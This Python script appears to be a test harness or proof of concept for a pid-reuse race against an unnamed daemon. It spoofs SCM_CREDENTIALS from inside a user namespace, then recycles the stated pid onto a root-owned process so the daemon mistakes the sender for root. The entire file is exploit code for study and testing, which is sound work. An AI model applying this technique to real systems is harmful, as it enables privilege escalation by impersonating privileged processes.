# A user who rules a namespace states the pid of its own child in a send that waits for a full
# queue; the child ends, and a process of root gets its pid. Run as root in the pid namespace of the
# daemon, which is stopped.
# Prints that pid, then waits for the end of stdin.
import ctypes, os, re, signal, socket, struct, sys, time

NOBODY = 65534
CLONE_NEWUSER, CLONE_NEWPID = 0x10000000, 0x20000000
PR_SET_DUMPABLE, PR_SET_PDEATHSIG = 4, 1
libc = ctypes.CDLL(None, use_errno=True)
path = sys.argv[1]

def crc32c(data):
    crc = 0xFFFFFFFF
    for byte in data:
        crc ^= byte
        for _ in range(8):
            crc = crc >> 1 ^ (0x82F63B78 if crc & 1 else 0)
    return crc ^ 0xFFFFFFFF

def frame(pid):
    head = b"VA\x02\x00" + struct.pack("<IQQI", pid, 1, 1, 0)
    return head + struct.pack("<I", crc32c(head))

def send_int(fd, value):
    os.write(fd, struct.pack("<i", value))

def receive_int(fd):
    return struct.unpack("<i", os.read(fd, 4))[0]

def end_with_parent():
    libc.prctl(PR_SET_PDEATHSIG, signal.SIGKILL, 0, 0, 0)

def rule_namespace():
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    libc.prctl(PR_SET_DUMPABLE, 1, 0, 0, 0)
    if libc.unshare(CLONE_NEWUSER | CLONE_NEWPID) != 0:
        sys.exit("no user namespaces: " + os.strerror(ctypes.get_errno()))
    mapping = f"0 {NOBODY} 1"
    for file, text in (("setgroups", "deny"), ("uid_map", mapping), ("gid_map", mapping)):
        with open(f"/proc/self/{file}", "w") as out:
            out.write(text)

def attack(told, asked):
    end_with_parent()
    # Nothing waits for the child: its pid is free as soon as it ends.
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    child = os.fork()
    if child == 0:
        end_with_parent()
        signal.pause()
    send_int(told, child)
    outer = receive_int(asked)
    filler = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    filler.connect(path)
    filler.setblocking(False)
    try:
        while True:
            filler.send(b"x" * 31)
    except BlockingIOError:
        send_int(told, 0)
    sender = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    sender.connect(path)
    stated = (socket.SOL_SOCKET, socket.SCM_CREDENTIALS, struct.pack("iII", child, 0, 0))
    sender.sendmsg([frame(outer)], [stated])
    signal.pause()

def start_attacker(told, asked):
    ruler = os.fork()
    if ruler == 0:
        rule_namespace()
        if os.fork() == 0:
            attack(told, asked)
        # Its namespace goes with it.
        end_with_parent()
        signal.pause()
    return ruler

def status_of(pid):
    try:
        with open(f"/proc/{pid}/status") as status:
            return status.read()
    except OSError:
        return ""

def outer_pid(inner):
    for pid in filter(str.isdigit, os.listdir("/proc")):
        status = status_of(pid)
        is_inner = re.search(rf"^NSpid:\t.*\t{inner}$", status, re.M)
        if is_inner and re.search(rf"^Uid:\t{NOBODY}\t", status, re.M):
            return int(pid)
    sys.exit("the child was not found")

def wait_for(happened):
    while not happened():
        os.sched_yield()

def sleeps(pid):
    return re.search(r"^State:\tS", status_of(pid), re.M) is not None

def fork_with_pid(wanted):
    # A pid is free a moment after its process is gone.
    for _ in range(1000):
        with open("/proc/sys/kernel/ns_last_pid", "w") as last:
            last.write(str(wanted - 1))
        pid = os.fork()
        if pid == 0:
            end_with_parent()
            signal.pause()
        if pid == wanted:
            return pid
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
        time.sleep(0.001)
    sys.exit(f"the kernel did not give {wanted} away again")

def main():
    told_read, told = os.pipe()
    asked, asked_write = os.pipe()
    start_attacker(told, asked)
    inner = receive_int(told_read)
    child = outer_pid(inner)
    attacker = int(re.search(r"^PPid:\t(\d+)$", status_of(child), re.M)[1])
    send_int(asked_write, child)
    receive_int(told_read)
    # It does not block before the send for which there is no room.
    wait_for(lambda: sleeps(attacker))
    os.kill(child, signal.SIGKILL)
    wait_for(lambda: status_of(child) == "")
    stranger = fork_with_pid(child)
    # The stranger is old enough by the clock of start times when the daemon looks it up.
    time.sleep(0.03)
    print(stranger, flush=True)
    sys.stdin.read()

main()
